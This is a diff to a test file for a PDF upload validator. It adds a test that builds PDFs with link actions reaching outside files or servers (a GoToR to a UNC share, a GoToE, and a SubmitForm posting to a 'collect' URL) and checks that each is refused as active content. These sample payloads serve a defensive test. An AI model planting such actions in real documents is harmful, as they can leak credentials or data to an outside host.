@@ -127,6 +127,25 @@ def test_a_refused_link_is_named_and_cut_to_one_line():
     assert "“javascript:" + "x" * 68 + "…”" in error.messages[0]
 
 
+@pytest.mark.parametrize(
+    ("action", "marker"),
+    [
+        (b"<</S/GoToR/F(\\\\\\\\198.51.100.7\\\\share\\\\deck.pdf)/D[0/Fit]>>", "/GoToR"),
+        (b"<</S/GoToE/T<</R/C/N(x)>>>>", "/GoToE"),
+        (b"<</S/SubmitForm/F<</FS/URL/F(https://198.51.100.7/collect)>>>>", "/SubmitForm"),
+    ],
+)
+def test_actions_that_reach_other_files_or_servers_are_refused(action, marker):
+    pdf = raw_pdf(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 10 10]/Annots[4 0 R]>>",
+        b"<</Type/Annot/Subtype/Link/Rect[0 0 5 5]/A " + action + b">>",
+    )
+    error = rejection(pdf)
+    assert error.code == "active_content" and marker in error.messages[0]
+
+
 def test_link_hidden_in_a_bookmark_is_refused_too():
     pdf = raw_pdf(
         b"<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
